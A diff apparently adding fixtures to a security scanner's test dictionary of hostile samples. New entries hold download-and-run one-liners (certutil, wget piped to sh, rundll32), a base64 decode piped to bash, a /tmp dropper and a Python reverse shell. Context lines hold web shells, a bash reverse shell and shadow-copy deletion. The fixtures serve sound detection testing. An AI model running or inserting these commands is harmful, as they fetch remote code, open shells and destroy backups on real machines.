@@ -81,6 +81,17 @@ SAMPLES: dict[str, bytes] = {
     "webshell_jsp": text('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
     "webshell_aspx": text('<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>'),
     "reverse_shell_one_liner": text("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+    "windows_tool_loads_from_network": text("certutil -urlcache -f http://e.example/a.txt a.txt"),
+    "library_is_loaded_and_started": text(
+        "Invoke-WebRequest http://e.example/a.dll -OutFile a.dll", "rundll32 a.dll,Start"
+    ),
+    "network_into_a_shell": text("wget -q -O- http://e.example/a | sh"),
+    "decoded_into_a_shell": text("echo ZWNobyBoZWxsbw== | base64 -d | bash"),
+    "shell_dropper": text("cd /tmp; wget http://192.0.2.1/bins/a; chmod 777 a; ./a; rm -rf a"),
+    "python_reverse_shell": text(
+        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)", 's.connect(("192.0.2.1", 4444))',
+        "os.dup2(s.fileno(), 0)", "os.dup2(s.fileno(), 1)", 'subprocess.call(["/bin/sh", "-i"])',
+    ),
     "shadow_copies_deleted": text("vssadmin.exe Delete Shadows /All /Quiet"),
     "base64_of_a_program": base64.b64encode(
         b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(0x3D) + STUB[0x4E:] + noise(99)
